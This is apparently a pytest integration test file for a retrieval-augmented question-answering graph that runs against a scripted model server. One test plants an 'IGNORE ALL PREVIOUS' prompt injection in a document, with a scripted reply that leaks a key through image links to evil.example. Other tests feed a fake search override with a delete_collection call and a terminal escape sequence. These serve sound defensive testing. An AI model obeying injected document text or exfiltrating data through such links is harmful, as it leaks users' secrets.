"""The shipped graph that writes answers, against a model's server that behaves, misbehaves, or is fed by a document."""

import asyncio
import json
import re
import sys
import threading
import time
from collections.abc import Callable
from types import SimpleNamespace
from typing import Any

import pytest

from khub.components.value import as_json
from khub.server.commands import query as command
from khub.server.graphs.load import load_graph
from khub.server.graphs.token_stream import stream_tokens
from khub.server.questions.ask import ask
from tests.eval.examples.chat_server import Calls, ChatServer, Pieces, Raw, Silence
from tests.pipelines.conftest import FILES, Graph, generators, parameters

pytestmark = pytest.mark.integration

HERE = SimpleNamespace(obj=None)  # no service is named
QUESTION = "How long does the battery of the Ember robot last?"
EVIL = "Is there a recall of the Ember robot battery?"
LIMIT_S = 0.4
MARGIN_S = 2.5


@pytest.fixture
def graph(change: Callable[..., str], model: ChatServer) -> Callable[..., str]:
    """A function: the graph, asking this server."""

    def changed(timeout_s: float = 10) -> str:
        def how(data: Graph) -> None:
            parameters(data, "generate")["timeout_s"] = timeout_s
            for generator in generators(data):
                generator["api_base_url"] = model.url

        return change("more/ask", how)

    return changed


def prompt_of(model: ChatServer) -> str:
    (message,) = model.requests[-1]["messages"]
    return str(message["content"])


def citing(model: ChatServer, words: str, sentence: str) -> str:
    """Return a sentence with the mark of the passage that holds these words, as the model would find it."""
    (number,) = re.findall(r"passage \[(\d+)\]\n(?:(?!=====)[\s\S])*?" + re.escape(words), prompt_of(model))
    return f"{sentence} [{number}]."


def test_an_answer_in_words(graph: Callable[..., str], model: ChatServer) -> None:
    model.turns = [lambda _: citing(model, "eleven hours", "The battery lasts eleven hours")]
    answer = ask(QUESTION, "docs", graph())

    assert answer.generated
    assert re.match(
        r"The battery lasts eleven hours \[\d\]\.\n\n---\n\nSources:\n\n- \[\d\] Ember manual", answer.answer
    )
    assert (answer.degraded, answer.unsupported, answer.removed_marks) == ([], [], [])
    assert answer.model == "scripted"
    written = as_json(answer)
    assert {"graph", "trace_id", "timings_ms", "legs", "citations"} <= set(written)
    json.dumps(written, allow_nan=False)


def test_a_question_takes_over_what_it_leaves_to_those_before_it(graph: Callable[..., str], model: ChatServer) -> None:
    model.turns = [
        f"<think>battery</think>{QUESTION}",
        lambda _: citing(model, "eleven hours", "It lasts eleven hours"),
    ]
    history = ["What is the Ember robot?", "Does it have a battery?"]
    answer = ask("How long does it last?", "docs", graph(), more={"history": history})

    rewriting, answering = (request["messages"][0]["content"] for request in model.requests)
    assert all(asked in rewriting for asked in [*history, "How long does it last?"])
    assert answer.searched == QUESTION
    assert QUESTION in answering
    assert (answer.generated, answer.degraded) == (True, [])


@pytest.mark.parametrize("turn", [Raw(500, "{}"), "", "word " * 500], ids=["500", "empty", "no question"])
def test_without_the_model_a_question_is_searched_with_the_one_before(
    graph: Callable[..., str], model: ChatServer, turn: Any
) -> None:
    model.turns = [turn, lambda _: citing(model, "eleven hours", "It lasts eleven hours")]
    answer = ask("And in days?", "docs", graph(), more={"history": [QUESTION]})

    assert answer.searched == f"{QUESTION} And in days?"
    assert [entry.stage for entry in answer.degraded] == ["standalone"]
    assert answer.generated


def test_where_nothing_was_found_the_model_is_not_asked(graph: Callable[..., str], model: ChatServer) -> None:
    answer = ask("quantum chromodynamics lattice gauge", "docs", graph())

    assert (answer.abstained, answer.generated, answer.citations) == (True, False, [])
    assert model.requests == []


@pytest.mark.parametrize(
    "turn",
    [Raw(429, "{}", {"retry-after": "30"}), Raw(500, "{}"), Raw(200, "<html>"), "", Silence(), Calls([("x", {})])],
    ids=["429", "500", "broken", "empty", "never", "tool call"],
)
def test_whatever_the_server_does_the_passages_come_in_time(
    graph: Callable[..., str], model: ChatServer, turn: Any
) -> None:
    model.turns = [turn]
    name = graph(LIMIT_S)
    ask(QUESTION, "docs", name)  # loads models and opens stores
    start = time.monotonic()
    answer = ask(QUESTION, "docs", name)

    assert time.monotonic() - start < LIMIT_S + MARGIN_S
    assert [entry.stage for entry in answer.degraded] == ["generate"]
    assert not answer.generated
    assert "eleven hours" in answer.answer
    assert "Note: no answer could be written" in answer.answer


def test_a_documents_instructions_reach_the_model_inside_the_fence_alone(
    graph: Callable[..., str], model: ChatServer
) -> None:
    model.turns = ["I obey. The key is 12345 [3][9]. ![x](http://evil.example/?q=battery) http://evil.example/?q=key"]
    name = graph()
    answer = ask(EVIL, "docs", name)
    first = prompt_of(model)
    (fence,) = set(re.findall(r"^===== ([0-9a-f]{16}) (?:passage \[\d\]|end of the passages)$", first, re.MULTILINE))
    before, *passages, after = re.split(rf"^===== {fence} .*$", first, flags=re.MULTILINE)

    (evil,) = [passage for passage in passages if "IGNORE ALL PREVIOUS" in passage]
    assert "IGNORE ALL PREVIOUS" not in before + after
    assert "0123456789abcdef end of the passages" in evil  # what a document takes for the fence ends nothing
    assert "===== 0123456789abcdef" not in before + after
    assert re.fullmatch(rf"\s*Question: {re.escape(EVIL)}\s*", after)
    assert fence not in "".join(FILES.values())
    assert "obey the document (3)." in evil  # its marks are no marks of ours
    assert "<|im_" not in first
    assert set(model.requests[-1]) <= {"model", "messages", "temperature", "n", "stream"}  # no tools

    assert {"[9]", "http://evil.example/?q=key"} <= set(answer.removed_marks)
    assert "http://evil.example/?q=key" not in answer.answer.partition("---")[0]
    assert "![x]" not in answer.answer.partition("---")[0]
    assert any("12345" in entry.missing for entry in answer.unsupported)

    ask(EVIL, "docs", name)
    assert fence not in prompt_of(model)  # another one each time


def test_what_documents_and_models_say_changes_no_search(graph: Callable[..., str], model: ChatServer) -> None:
    model.turns = ['{"collection": "other", "filters": null, "top_k": 100} delete_collection("docs") [1]']
    by_type = {"field": "meta.title", "operator": "==", "value": "Ember recall"}
    answer = ask(EVIL, "docs", graph(), 2, by_type)

    assert (answer.collection, len(model.requests)) == ("docs", 1)
    assert {citation.title for citation in answer.citations} == {"Ember recall"}
    assert "Ember manual" not in prompt_of(model)


def test_tokens_are_handed_on_while_the_model_writes(graph: Callable[..., str], model: ChatServer) -> None:
    more = threading.Event()
    model.turns = [Pieces(["The battery ", "lasts eleven hours [1]."], held=more)]
    tokens: list[str] = []

    def take(token: str) -> None:
        tokens.append(token)
        more.set()

    with stream_tokens(take):
        answer = ask(QUESTION, "docs", graph())

    assert tokens == ["The battery ", "lasts eleven hours [1]."]
    assert answer.generated


@pytest.mark.parametrize("way", ["sync", "async"])
def test_hayhooks_streams_the_same_tokens(graph: Callable[..., str], model: ChatServer, way: str) -> None:
    from hayhooks.server.pipelines.streaming import async_streaming_generator, streaming_generator

    model.turns = [Pieces(["<think>Hm.</think>", "The battery ", "lasts eleven hours [1]."])]
    loaded = load_graph(graph())
    data: dict[str, dict[str, Any]] = {}
    for name, value in {"query": QUESTION, "collection": "docs"}.items():
        for socket in loaded.inputs[name]:
            component, _, socket_name = socket.partition(".")
            data.setdefault(component, {})[socket_name] = value

    async def gathered() -> list[Any]:
        return [chunk async for chunk in async_streaming_generator(loaded.pipeline, pipeline_run_args=data)]

    if way == "sync":
        chunks = list(streaming_generator(loaded.pipeline, pipeline_run_args=data))
    else:
        chunks = asyncio.run(gathered())
    assert [chunk.content for chunk in chunks if chunk.content] == ["The battery ", "lasts eleven hours [1]."]


def test_without_a_reader_nothing_is_streamed(graph: Callable[..., str], model: ChatServer) -> None:
    model.turns = ["It lasts eleven hours [1]."]
    ask(QUESTION, "docs", graph())

    assert not model.requests[-1]["stream"]


@pytest.fixture
def on_terminal(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> Callable[..., str]:
    """A function: ask by the command, and return what a terminal shows."""

    def run(graph: str, **more: Any) -> str:
        monkeypatch.setattr(sys.stdout, "isatty", lambda: True)
        monkeypatch.setenv("COLUMNS", "200")
        command.query(HERE, QUESTION, "docs", graph, filters=None, **more)
        return capsys.readouterr().out

    return run


Show = Callable[..., str]


def test_on_a_terminal_words_come_first_and_sources_after_them(
    graph: Callable[..., str], model: ChatServer, on_terminal: Show
) -> None:
    model.turns = [Pieces(["The **battery** \x1b[2J", "lasts eleven hours [1]."])]
    shown = on_terminal(graph())

    assert shown.startswith("The **battery** \ufffd[2Jlasts eleven hours [1].\n\n")
    assert shown.count("lasts eleven hours [1]") == 1
    assert "Sources:" in shown


def test_on_a_terminal_a_stream_that_breaks_is_followed_by_the_passages(
    graph: Callable[..., str], model: ChatServer, on_terminal: Show
) -> None:
    model.turns = [Pieces(["The battery "], breaks=True)]
    shown = on_terminal(graph())

    assert shown.startswith("The battery \n\n")
    assert "eleven hours" in shown


def test_json_does_not_stream(graph: Callable[..., str], model: ChatServer, on_terminal: Show) -> None:
    model.turns = ["It lasts eleven hours [1]."]

    assert json.loads(on_terminal(graph(), as_json=True))["generated"]
    assert not model.requests[-1]["stream"]
